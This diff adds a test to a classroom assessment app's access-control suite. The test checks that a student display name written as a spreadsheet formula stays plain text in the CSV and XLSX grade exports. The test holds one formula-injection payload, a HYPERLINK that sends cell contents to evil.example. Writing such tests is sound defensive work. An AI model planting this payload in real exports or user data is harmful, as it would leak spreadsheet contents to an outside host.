@@ -4,6 +4,7 @@
 // is not theirs. Each test is an attack through the real routes; it must be refused with nothing
 // changed, or earn nothing.
 import { beforeAll, describe, expect, test } from "bun:test";
+import { strFromU8, unzipSync } from "fflate";
 import {
   AttemptRefused,
   itemsOf as loadItems,
@@ -12,7 +13,7 @@ import {
   selectAttempt,
 } from "../../../src/features/assessments/attempts.ts";
 import { useClassroom } from "../../helpers/classroom.ts";
-import { type Client, createSection, createTeacher } from "../../helpers/client.ts";
+import { Client, createSection, createTeacher, STRONG } from "../../helpers/client.ts";
 import {
   addQuestions,
   attemptRow,
@@ -624,6 +625,31 @@ describe("access of other teachers and students", () => {
     expect((await student.post(`/assessments/${a}/start`)).status).toBe(404);
     expect((await student.get(`/assessments/${a}`)).status).toBe(404);
     expect(responseOf(id)).toBeNull();
+  });
+
+  test("a student's name written as a formula stays text in the grade exports", async () => {
+    const a = await quiz(["short"]);
+    const student = new Client(t);
+    const joined = await student.post(`/join/${section.code}/register`, {
+      displayName: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+      username: "formula-student",
+      email: "",
+      password: STRONG,
+      confirm: STRONG,
+    });
+    expect(joined.status).toBe(303);
+    await submit(student, await start(student, a));
+    const csv = await (await teacher.get(`/assessments/${a}/export/csv`)).text();
+    const line = csv.split(/\r?\n/).find((l) => l.startsWith("formula-student"))!;
+    expect(line).toContain(`"'=HYPERLINK(`);
+    const xlsx = new Uint8Array(await (await teacher.get(`/assessments/${a}/export/xlsx`)).arrayBuffer());
+    const sheets = unzipSync(xlsx);
+    const xml = Object.entries(sheets)
+      .filter(([name]) => name.startsWith("xl/"))
+      .map(([, bytes]) => strFromU8(bytes))
+      .join("");
+    expect(xml).toContain("HYPERLINK");
+    expect(xml).not.toMatch(/<f>|<f /);
   });
 
   test("a bank shared with the student's section stays closed to its students", async () => {
